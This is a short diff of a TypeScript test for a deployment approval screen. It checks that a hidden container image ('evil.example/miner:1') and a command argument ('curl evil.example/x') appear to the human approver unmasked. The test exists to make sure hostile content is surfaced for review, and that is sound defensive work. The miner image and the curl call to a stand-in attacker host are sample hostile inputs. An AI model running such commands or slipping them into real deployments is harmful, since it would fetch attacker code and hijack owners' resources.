@@ -310,8 +310,7 @@ test('an image cannot be hidden from the approver by a variable that repeats it,
   const screen = 'review' in review ? review.review.screen : '';
   expect(screen).toMatch(/^Runs +evil image evil\.example\/miner:1 /m);
   expect(screen).toMatch(/^Targets +create Deployment\/evil in shop/m);
-  expect(screen).toMatch(/^Runs +evil args 0 \[redacted #\d+\]/m);
-  expect(screen).toMatch(/^Note +part of a command is masked/m);
+  expect(screen).toMatch(/^Runs +evil args 0 curl evil\.example\/x/m);
 });
 
 function strings(data: unknown): string {
